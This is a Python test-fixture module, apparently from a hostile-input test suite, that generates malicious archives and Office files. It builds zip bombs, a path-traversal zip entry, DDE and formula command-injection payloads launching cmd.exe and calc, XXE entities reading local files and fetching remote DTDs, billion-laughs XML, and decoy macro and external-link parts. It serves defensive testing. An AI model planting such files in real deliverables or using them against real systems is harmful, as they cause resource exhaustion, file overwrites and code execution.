"""Archives and Office files that act, swell or climb."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from tests import files_world
from tests.hostile.pages import LAUGHS, html


def zipped(*entries: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in entries:
            package.writestr(name, data)
    return out.getvalue()


def nested_zip_bomb(to: str) -> bytes:
    data = zipped(("0.dll", bytes(10_000_000)))
    for _ in range(4):
        data = zipped(*((f"{number}.zip", data) for number in range(16)))
    return data


_TYPES = (
    b'<Types><Default Extension="rels" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="'
    b'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELS = (
    b'<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    b'Target="word/document.xml"/></Relationships>'
)


def docx_bomb(to: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", _TYPES)
        package.writestr("_rels/.rels", _RELS)
        with package.open("word/document.xml", "w") as part:
            for _ in range(200):
                part.write(b" " * 1_000_000)
    return out.getvalue()


def entries(count: int, told: int) -> bytes:
    """A zip whose list has `count` entries, all of them the same empty file, and says that it has `told`."""
    local = b"PK\3\4" + struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"a"
    entry = b"PK\1\2" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    end = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, told, told, len(entry) * count, len(local), 0)
    return local + entry * count + end


def million_entries(to: str) -> bytes:
    return entries(1_000_000, 0xFFFF)


def million_entries_in_secret(to: str) -> bytes:
    return entries(1_000_000, 3)


def overlapping_entries(to: str) -> bytes:
    """Hundreds of entries that all unpack the same megabytes (https://www.bamsoftware.com/hacks/zipbomb/)."""
    packed = zlib.compressobj(9, wbits=-15)
    data = packed.compress(bytes(90_000_000)) + packed.flush()
    checksum = zlib.crc32(bytes(90_000_000))
    fields = (checksum, len(data), 90_000_000, 4, 0)
    local = b"PK\3\4" + struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, *fields) + b"0000" + data
    names = [f"{number:04}".encode() for number in range(900)]
    entries = b"".join(b"PK\1\2" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 8, 0, 0, *fields, 0, 0, 0, 0, 0) + name for name in names)
    return local + entries + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 900, 900, len(entries), len(local), 0)


def climbing_entries(to: str) -> bytes:
    return zipped(("[Content_Types].xml", _TYPES), ("_rels/.rels", _RELS), ("word/document.xml", b"<d/>"), ("../../cron", b"x"))


def _docx(body: str, *, main: bytes = b"", parts=None) -> bytes:
    text = f'<w:document xmlns:w="urn:w" xmlns:r="urn:r"><w:body>{body}</w:body></w:document>'
    return files_world.make_word(main.decode() + text, parts)


def docx_with_macros(to: str) -> bytes:
    return _docx("<w:p/>", parts={"word/vbaProject.bin": ("vbaProject", "application/vnd.ms-office.vbaProject", b"Shell")})


def docx_with_parts_elsewhere(to: str) -> bytes:
    main = "word/document.xml"
    roles = ("attachedTemplate", "image", "oleObject", "frame", "subDocument", "hyperlink", "aFChunk", "video")
    return files_world.make_package(
        {main: "<w:document xmlns:w='urn:w'/>"}, {main: "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"},
        {"": [("officeDocument", main)], main: [(role, f"{to}/{role}") for role in roles] + [("hyperlink", "javascript://%0aalert(1)")]},
    )  # fmt: skip


def docx_with_dde(to: str) -> bytes:
    fields = (
        r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"',
        f'INCLUDEPICTURE "{to}/field" \\d',
        f'INCLUDETEXT "{to}/text"',
        "MACROBUTTON Run x",
    )
    runs = "".join(f"<w:r><w:instrText>{field.replace('&', '&amp;')}</w:instrText></w:r>" for field in fields)
    return _docx(f"<w:p>{runs}<w:fldSimple w:instr='DDE cmd calc'/></w:p>")


def docx_with_page(to: str) -> bytes:
    return _docx("<w:altChunk r:id='rId1'/>", parts={"word/page.html": ("aFChunk", "text/html", html(to))})


def docx_with_entity(to: str) -> bytes:
    return _docx(
        "<w:t>&x;</w:t>", main=f'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname"><!ENTITY % y SYSTEM "{to}/dtd">%y;]>'.encode()
    )


def docx_with_laughs(to: str) -> bytes:
    return _docx("<w:t>&l9;</w:t>", main=f"<!DOCTYPE d [{LAUGHS}]>".encode())


def docx_nested(to: str) -> bytes:
    return _docx("<w:p>" * 1_000_000 + "</w:p>" * 1_000_000)


def xlsx_that_calls(to: str) -> bytes:
    calls = (
        f'WEBSERVICE("{to}/cell")',
        f'IMAGE("{to}/picture")',
        "cmd|' /C calc'!A0",
        f'HYPERLINK("{to}","Open")',
        'CALL("kernel32","WinExec")',
    )
    cells = "".join(f'<c r="A{row}"><f>{call}</f><v>1</v></c>' for row, call in enumerate(calls, 1))
    book, sheet, link = "xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/externalLinks/externalLink1.xml"
    parts = {
        book: "<workbook xmlns:r='urn:r'><sheets><sheet name='A' sheetId='1' r:id='rId1'/></sheets></workbook>",
        sheet: f"<worksheet><sheetData><row>{cells}</row></sheetData></worksheet>".replace("'", "&apos;").replace("<row>", "<row>"),
        link: "<externalLink><ddeLink ddeService='cmd' ddeTopic='/C calc'/></externalLink>",
    }
    types = {book: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"}
    links = {
        "": [("officeDocument", book)],
        book: [("worksheet", f"/{sheet}"), ("externalLink", f"/{link}")],
        link: [("oleLink", f"{to}/ole")],
    }
    return files_world.make_package(parts, types, links)


def pptx_that_launches(to: str) -> bytes:
    show, slide = "ppt/presentation.xml", "ppt/slides/slide1.xml"
    parts = {
        show: "<p:presentation xmlns:p='urn:p'/>",
        slide: "<p:sld xmlns:p='urn:p' xmlns:r='urn:r'><a:hlinkClick r:id='rId1' action='ppaction://program'/></p:sld>".replace("a:", "p:"),
    }
    types = {show: "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"}
    away = [("hyperlink", "file:///C:/Windows/System32/calc.exe"), ("video", f"{to}/film"), ("oleObject", f"{to}/ole")]
    return files_world.make_package(parts, types, {"": [("officeDocument", show)], show: [("slide", f"/{slide}")], slide: away})
